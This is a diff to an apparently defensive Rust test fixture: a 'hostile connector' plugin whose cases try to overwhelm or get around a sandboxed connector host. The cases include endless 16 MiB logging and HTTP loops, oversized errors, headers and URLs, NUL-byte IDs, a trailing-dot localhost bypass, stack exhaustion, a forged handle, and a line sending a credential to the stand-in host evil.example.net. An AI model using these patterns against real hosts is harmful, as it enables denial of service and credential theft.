@@ -1,7 +1,7 @@
 //! A hostile connector. `check` behaves; `create-user` misbehaves in the way
 //! its login names, so one installed component serves every hostile test.
 
-use provisio_sdk::error::{Result, permanent};
+use provisio_sdk::error::{RateLimit, Result, permanent, transient};
 use provisio_sdk::{
     Account, Connector, Context, ContextExt, Descriptor, NewAccount, Operation, SettingSchema, SettingType, http, log,
 };
@@ -16,6 +16,18 @@ fn target(ctx: &Context) -> Result<String> {
 fn recurse(depth: u64) -> u64 {
     // black_box keeps the optimiser from turning this into a loop.
     std::hint::black_box(recurse(std::hint::black_box(depth + 1))) + 1
+}
+
+/// Recursion with 64 KiB frames: the shadow stack in linear memory runs out
+/// long before wasm's own call stack does.
+#[allow(unconditional_recursion)]
+fn recurse_large(depth: u64) -> u64 {
+    let frame = std::hint::black_box([depth as u8; 64 << 10]);
+    std::hint::black_box(recurse_large(std::hint::black_box(depth + u64::from(frame[7])))) + 1
+}
+
+fn account(id: impl Into<String>) -> Account {
+    Account { id: id.into(), login: None, active: None, profile: Vec::new() }
 }
 
 impl Connector for Hostile {
@@ -118,6 +130,57 @@ impl Connector for Hostile {
                 // The credential is bound to the target's origin.
                 http::get("http://evil.example.net/").auth(auth).send()?;
             }
+            "busy-host" => {
+                // Each call costs the host a 16 MiB copy and the guest almost
+                // no fuel; the loop never ends on its own.
+                http::get(format!("{target}/started")).send()?;
+                let huge = "x".repeat(16 << 20);
+                loop {
+                    log::info(&huge);
+                }
+            }
+            "busy-host-http" => {
+                let body = vec![b'x'; 16 << 20];
+                loop {
+                    let _ = http::post("http://undeclared.example.org/").body("text/plain", body.clone()).send();
+                }
+            }
+            "huge-error" => return Err(permanent(format!("{}END", "e".repeat(20 << 20)))),
+            "nul-error" => return Err(transient("bad\0thing")),
+            "nul-id" => return Ok(account("a\0b")),
+            "huge-id" => return Ok(account("i".repeat(2000))),
+            "retry-after-max" => {
+                return Err(provisio_sdk::error::ConnectorError::RateLimited(RateLimit {
+                    message: "slow down, forever".into(),
+                    retry_after_ms: Some(u64::MAX - 1),
+                }));
+            }
+            "error-without-request" => return Err(transient("the connector made this up")),
+            "big-header" => {
+                http::get(format!("{target}/ok")).header("x-big", &"h".repeat(2 << 20)).send()?;
+            }
+            "many-headers" => {
+                let mut req = http::get(format!("{target}/ok"));
+                for i in 0..20_000 {
+                    req = req.header(&format!("x-h{i}"), "a-value-of-some-fifty-bytes-to-make-this-count-up");
+                }
+                req.send()?;
+            }
+            "long-url" => {
+                http::get(format!("{target}/{}", "u".repeat(100_000))).send()?;
+            }
+            "localhost-dot" => {
+                let port = target.rsplit(':').next().unwrap_or("80");
+                http::get(format!("http://localhost.:{port}/ok")).send()?.error_for_status("localhost.")?;
+                return Ok(account("reached"));
+            }
+            "relative-redirect" => {
+                let landed = http::get(format!("{target}/redirect-relative")).send()?.error_for_status("landing")?;
+                return Ok(account(landed.text()));
+            }
+            "stack-large-frames" => {
+                std::hint::black_box(recurse_large(0));
+            }
             "forged-handle" => {
                 #[allow(unsafe_code)]
                 // SAFETY: deliberately unsound: proves the host refuses a handle it never gave.
@@ -126,7 +189,7 @@ impl Connector for Hostile {
             }
             other => return Err(permanent(format!("unknown attack {other}"))),
         }
-        Ok(Account { id: "never".into(), login: None, active: None, profile: Vec::new() })
+        Ok(account("never"))
     }
 }
 
